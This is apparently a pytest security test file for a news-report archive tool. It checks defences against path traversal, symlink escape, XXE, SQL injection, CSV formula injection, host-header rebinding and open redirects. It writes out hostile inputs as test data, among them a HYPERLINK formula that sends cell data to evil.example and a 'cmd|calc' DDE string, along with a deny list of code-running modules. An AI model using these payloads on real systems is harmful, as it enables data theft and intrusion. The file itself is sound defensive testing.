"""Who should not be in, is not: each guard has a test that fails where it is taken away."""

from __future__ import annotations

import ast
import csv
import io
import os
import re
import secrets
import stat
import sys
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from conftest import CALL
from made_files import docx
from sources import trees
from test_warc import record
from web_pages import ADDRESS, client_of

import dateline
from dateline.archive import Archive
from dateline.cli import main
from dateline.export.csv import line
from dateline.intake import take
from dateline.intake.files import find_sources
from dateline.intake.formats import unpack
from dateline.web.guard import COOKIE, Door
from dateline.web.pages import PAGES

NEEDS_POSIX = pytest.mark.skipif(sys.platform == "win32", reason="modes and links of POSIX")
OUTSIDE = (
    "../up.txt",
    "/tmp/up.txt",
    "..\\up.txt",
    "C:\\up.txt",
    "a/../../up.txt",
    "~/up.txt",
    "//host/up.txt",
)


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An archive of one report."""
    place = tmp_path_factory.mktemp("intruders")
    (place / "call.txt").write_text(CALL, encoding="utf-8")
    with dateline.open(place / "a.db") as opened:
        opened.read(place / "call.txt", extractor="rules")
    return place / "a.db"


# Paths


_watching: list[list[str]] = []


def _watch(event: str, details: tuple[object, ...]) -> None:
    if not _watching:
        return
    if (
        event == "open"
        and isinstance(details[2], int)
        and details[2] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT)
    ):
        _watching[-1].append(str(details[0]))
    elif event in ("os.mkdir", "os.rename", "os.symlink", "os.link", "subprocess.Popen", "os.system"):
        _watching[-1].append(f"{event} {details}")


sys.addaudithook(_watch)


@contextmanager
def nothing_written() -> Iterator[None]:
    """Fails where a file is opened for writing, made, moved or linked, or a program run."""
    _watching.append([])
    try:
        yield
    finally:
        written = _watching.pop()
    assert written == []


def zip_of(names: tuple[str, ...]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as packed:
        for name in names:
            info = zipfile.ZipInfo("x")
            info.filename = name
            packed.writestr(info, CALL)
    return file.getvalue()


def tar_of(names: tuple[str, ...]) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as packed:
        for name in names:
            info = tarfile.TarInfo(name)
            info.size = len(CALL.encode())
            packed.addfile(info, io.BytesIO(CALL.encode()))
    return file.getvalue()


def warc_of(names: tuple[str, ...]) -> bytes:
    return b"".join(
        record(number).replace(f"https://lisford.example/{number}".encode(), f"file:///{name}".encode())
        for number, name in enumerate(names)
    )


@pytest.mark.parametrize("pack", [zip_of, tar_of, warc_of])
def test_a_path_in_an_archive_leads_nowhere(pack: Callable[[tuple[str, ...]], bytes]) -> None:
    data = pack(OUTSIDE)
    for name in ("a", "../a"):
        list(unpack(name, io.BytesIO(data)))  # loads what it needs
    with nothing_written():
        parts = list(unpack("a", io.BytesIO(data)))
        read = [take(part.name, part.data, part.given) for part in parts if part.trouble is None]
    assert len(read) == len(OUTSIDE)
    assert all(part.name.startswith("a#") for part in parts)


def test_the_watch_over_files_sees_what_is_written(tmp_path: Path) -> None:
    with pytest.raises(AssertionError), nothing_written():
        (tmp_path / "a").write_text("a")


@NEEDS_POSIX
def test_a_link_that_leads_out_of_the_folder_is_not_followed(tmp_path: Path) -> None:
    clips, secret = tmp_path / "clips", tmp_path / "clips-of-others"
    for folder in (clips / "more", secret):
        folder.mkdir(parents=True)
        (folder / "talks.txt").write_text(CALL)
    (clips / "key.txt").symlink_to(secret / "talks.txt")
    (clips / "all").symlink_to(secret, target_is_directory=True)
    (clips / "same.txt").symlink_to(clips / "more" / "talks.txt")
    found = {source.name.rsplit("/", 1)[-1]: source.trouble for source in find_sources([str(clips)])}
    assert found["talks.txt"] is None and found["same.txt"] is None
    assert "leads out of the folder" in (found["key.txt"] or "")
    assert "leads out of the folder" in (found["all"] or "")


@NEEDS_POSIX
def test_a_link_that_the_user_names_is_followed(tmp_path: Path) -> None:
    (tmp_path / "real").mkdir()
    (tmp_path / "real" / "talks.txt").write_text(CALL)
    (tmp_path / "named").symlink_to(tmp_path / "real", target_is_directory=True)
    [source] = find_sources([str(tmp_path / "named")])
    assert source.trouble is None and source.read() == CALL.encode()


# What runs code


PACKED_CODE = {
    "pickle",
    "cPickle",
    "marshal",
    "shelve",
    "dill",
    "cloudpickle",
    "joblib",
    "yaml",
    "code",
    "imp",
}
RUNS_CODE = {"eval", "exec", "compile", "__import__"}


def test_nothing_that_is_read_can_be_code() -> None:
    for name, tree in trees().items():
        for node in ast.walk(tree):
            if isinstance(node, ast.Import):
                assert not PACKED_CODE & {alias.name.split(".")[0] for alias in node.names}, name
            elif isinstance(node, ast.ImportFrom):
                assert (node.module or "").split(".")[0] not in PACKED_CODE, name
            elif isinstance(node, ast.Call):
                called = ast.unparse(node.func)
                assert called not in RUNS_CODE, f"{name}:{node.lineno}"
                assert not called.startswith(("os.system", "os.popen", "os.exec", "os.spawn")), name
                for keyword in node.keywords:
                    allowed = keyword.arg not in {"shell", "allow_pickle"}
                    assert allowed or ast.unparse(keyword.value) == "False", f"{name}:{node.lineno}"


def test_a_model_that_is_not_the_one_that_was_shipped_is_not_run(monkeypatch: pytest.MonkeyPatch) -> None:
    """Its digest is compared before anything takes it apart (damage itself: test_attributions_model)."""
    from dateline.errors import ModelMissingError
    from dateline.reading.attributions.neural import tagger

    data = tagger._model_data()
    loaded: list[bytes] = []
    monkeypatch.setattr(tagger, "Tagger", loaded.append)
    monkeypatch.setattr(Path, "read_bytes", lambda path: data[:-1] + b"x")
    with pytest.raises(ModelMissingError, match="sha256"):
        tagger.load_tagger.__wrapped__()
    assert loaded == []


def _last_name(called: ast.expr) -> str:
    return called.attr if isinstance(called, ast.Attribute) else getattr(called, "id", "")


def test_xml_is_read_without_names_that_stand_for_files_or_for_each_other(tmp_path: Path) -> None:
    """Every parser of XML is set so; office documents and feeds have tests of the attacks themselves."""
    found = 0
    for name, tree in trees().items():
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and _last_name(node.func).endswith("XMLParser"):
                given = {keyword.arg: ast.unparse(keyword.value) for keyword in node.keywords}
                assert given["resolve_entities"] == "False" and given["no_network"] == "True", name
                assert given.get("load_dtd", "False") == given.get("huge_tree", "False") == "False", name
                found += 1
    assert found
    secret = tmp_path / "secret.txt"
    secret.write_text("the secret")
    for way in (f'SYSTEM "{secret.as_uri()}"', f'PUBLIC "x" "{secret.as_uri()}"'):
        head = f"<!DOCTYPE x [<!ENTITY % p {way}> %p; <!ENTITY x {way}>]>"
        assert "the secret" not in take("a.docx", docx("Talks &x; go on", CALL, head=head)).text


# What is asked of the archive


PUT_INTO_SQL = frozenset(
    # Names of tables, columns and orders that stand in the program.
    "table column columns name self.name table.name kind order key other query where listed self.listed "
    "self._rows self._where ids report start end title named party holds value standing "
    # The questions of `Archive.matching`, and of what is doubtful.
    "found holding asked "
    # Conditions that `is_one_of` and its like have made, with a "?" for each value.
    "condition conditions one_of said told reports is_actor of_reports spoke gave spoken "
    "of_kind takes_part is_off is_touched is_row of_report[0]".split()
)
"""What may be put into SQL, for it never comes from outside; all else goes through "?"."""
_SQL = re.compile(r"\b(?:SELECT|INSERT|DELETE FROM|DROP|PRAGMA|WHERE|ORDER BY|LIMIT)\b")


def test_sql_is_put_together_from_words_of_the_program_alone() -> None:
    for name, tree in trees().items():
        if name.parts[0] == "archive":
            continue  # the schema and its views, built from constants; its questions are watched below
        for node in ast.walk(tree):
            if not isinstance(node, ast.JoinedStr):
                continue
            if not _SQL.search("".join(v.value for v in node.values if isinstance(v, ast.Constant))):
                continue
            for value in node.values:
                if isinstance(value, ast.FormattedValue):
                    put = ast.unparse(value.value)
                    own = (
                        put in PUT_INTO_SQL or put.split("[")[0].isupper() or "int(" in put
                    )  # constants, numbers
                    assert own, f"{name}:{node.lineno} puts {put} into SQL"


def test_what_is_asked_never_stands_in_sql(archive: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[str] = []
    run = Archive._run

    def watched(self: Archive, sql: str, values: object = ()) -> object:
        asked.append(sql)
        return run(self, sql, values)  # type: ignore[arg-type]

    monkeypatch.setattr(Archive, "_run", watched)
    client = client_of(archive)
    mark = "zqx' OR 1=1 --"
    keys = (
        "q actor place type status outlet from to story event report correction date done zoom page by what"
    )
    query = "&".join(f"{key}={mark}" for key in keys.split())
    for page in PAGES:
        if page.method == "GET":
            assert client.get(f"{page.path.replace('{name}', 'zqx')}?{query}").status_code < 500
            for key in keys.split():
                assert client.get(page.path.replace("{name}", "zqx"), params={key: mark}).status_code < 500
    for command in ("timeline --actor", "quotes --speaker", "places", "actors", "search", "figures --what"):
        main([*command.split(), mark, "--archive", str(archive)])
    assert len(asked) > 100
    assert not [sql for sql in asked if "zqx" in sql.casefold()]


# What is written


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_a_cell_of_words_is_no_formula(begin: str) -> None:
    words = f'{begin}HYPERLINK("https://evil.example/?"&A1, "talks")'
    [[cell, other]] = csv.reader(io.StringIO(line([words, "talks"]).decode(), newline=""))
    assert cell == f"'{words}" and other == "talks"


def test_numbers_stay_numbers_in_a_table() -> None:
    assert line([-5, "-5", "+3.25", -0.5, None, "2014-03-14"]) == b"-5,-5,+3.25,-0.5,,2014-03-14\r\n"
    assert line(["-5+cmd|' /C calc'!A0"]) == b"'-5+cmd|' /C calc'!A0\r\n"


def test_a_report_made_to_be_a_formula_is_none_in_any_table_written(tmp_path: Path) -> None:
    text = CALL.replace("Talks by telephone", '=HYPERLINK("https://evil.example/?"&A1,"Talks")')
    (tmp_path / "=1+1.txt").write_text(text.replace("“We need", "=1+1 “We need"), encoding="utf-8")
    path = str(tmp_path / "a.db")
    assert (
        main(["read", str(tmp_path / "=1+1.txt"), "--archive", path, "--quiet", "--extractor", "rules"]) == 0
    )
    tables = tmp_path / "tables"
    for name, output in (
        ("csv", tables),
        *((each, tables / each) for each in "acled ucdp polecat gdelt".split()),
    ):
        assert main(["export", "--archive", path, "--format", name, "--output", str(output)]) == 0
    seen = 0
    for file in tables.iterdir():
        delimiter = "\t" if file.name in ("polecat", "gdelt") else ","
        with file.open(encoding="utf-8", newline="") as rows:
            for row in csv.reader(rows, delimiter=delimiter):
                seen += any(cell.startswith("'=") for cell in row)
                assert not [cell for cell in row if re.match(r"[=@\t\r\n]|[+-](?![\d.]+$)", cell)], file
    assert seen


@NEEDS_POSIX
def test_what_holds_reports_is_its_owners_alone(tmp_path: Path) -> None:
    (tmp_path / "call.txt").write_text(CALL, encoding="utf-8")
    path = tmp_path / "a.db"
    before = os.umask(0)  # the most open way to make files
    try:
        with dateline.open(path) as opened:
            opened.read(tmp_path / "call.txt", extractor="rules")
            beside = {file.name: file for file in tmp_path.glob("a.db*")}
            assert {"a.db", "a.db-wal", "a.db-shm"} <= beside.keys()
            assert {stat.S_IMODE(file.stat().st_mode) for file in beside.values()} == {0o600}
        arguments = ["--archive", str(path)]
        assert main(["backup", str(tmp_path / "copy.db"), *arguments]) == 0
        assert main(["export", *arguments, "--output", str(tmp_path / "record.json")]) == 0
        assert main(["export", *arguments, "--format", "csv", "--output", str(tmp_path / "tables")]) == 0
        assert main(["figures", *arguments, "--series", "--svg", str(tmp_path / "series.svg")]) == 0
    finally:
        os.umask(before)
    made = [
        tmp_path / "copy.db",
        tmp_path / "record.json",
        tmp_path / "series.svg",
        *(tmp_path / "tables").iterdir(),
    ]
    assert {stat.S_IMODE(file.stat().st_mode) for file in made} == {0o600}


@NEEDS_POSIX
def test_a_file_that_its_owner_shares_stays_shared(tmp_path: Path) -> None:
    (tmp_path / "a.db").touch()
    (tmp_path / "a.db").chmod(0o640)
    Archive(tmp_path / "a.db", create=True).close()
    assert stat.S_IMODE((tmp_path / "a.db").stat().st_mode) == 0o640


# The pages


def test_tokens_are_compared_in_the_same_time_however_much_is_right(
    archive: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    compared: list[tuple[bytes, bytes]] = []
    same = secrets.compare_digest

    def watched(one: bytes, other: bytes) -> bool:
        compared.append((one, other))
        return same(one, other)

    monkeypatch.setattr(secrets, "compare_digest", watched)
    door = Door(token="secret-token", form_token="form-token")
    client = client_of(archive, door)
    assert client.get("/?token=guess").status_code == 401
    assert (b"guess", b"secret-token") in compared
    client.cookies.set(COOKIE, "secret-token")
    sent = {"form_token": "other", "correction": "c"}
    assert client.post("/corrections/undo", data=sent, headers={"origin": ADDRESS}).status_code == 403
    assert (b"other", b"form-token") in compared


@pytest.mark.parametrize(
    "host",
    [
        "evil.example:8713", "localhost.evil.example", "127.0.0.1.nip.example", "localhost@evil.example",
        "evil.example#localhost", "evil.example?@localhost", "localhost/evil", "localhost,evil.example",
        "127.1", "0x7f000001", "2130706433", "localhost.", "xn--lcalhost-dxa", "[::ffff:127.0.0.1]",
        "0.0.0.0", "[::]",
    ],
)  # fmt: skip
def test_a_name_that_was_bound_anew_to_this_machine_is_refused(archive: Path, host: str) -> None:
    answer = client_of(archive).get("/reports", headers={"host": host})
    assert answer.status_code == 421 and "Talks by telephone" not in answer.text


@pytest.mark.parametrize(
    "origin",
    [
        "http://127.0.0.1",
        "http://127.0.0.1:9999",
        "https://127.0.0.1:8713",
        "http://localhost:8713",
        "null",
        "",
    ],
)
def test_a_page_of_another_port_or_scheme_sends_no_forms(archive: Path, origin: str) -> None:
    door = Door()
    form = {"form_token": door.form_token, "correction": "c"}
    answer = client_of(archive, door).post("/corrections/undo", data=form, headers={"origin": origin})
    assert answer.status_code == 403


@pytest.mark.parametrize(
    "path",
    ["//evil.example/", "/\\evil.example/", "//evil.example/reports/", "/%2F%2Fevil.example/", "/reports/"],
)
@pytest.mark.parametrize("token", ["", "?token=secret-token"])
def test_no_address_leads_away_from_here(archive: Path, path: str, token: str) -> None:
    client = client_of(archive, Door(token="secret-token") if token else None)
    answer = client.get(ADDRESS + path + token, follow_redirects=False)
    led = answer.headers.get("location", "/")
    assert re.match(r"/(?![/\\])", led.removeprefix(ADDRESS)), led


def test_no_question_changes_the_archive(archive: Path) -> None:
    """A link or a picture of another page may ask for any address, so asking must do nothing."""
    before = archive.read_bytes()
    client = client_of(archive)
    for page in PAGES:
        client.get(page.path.replace("{name}", "x") + "?correction=c&event=e&date=2014-01-01&all=1")
    assert archive.read_bytes() == before
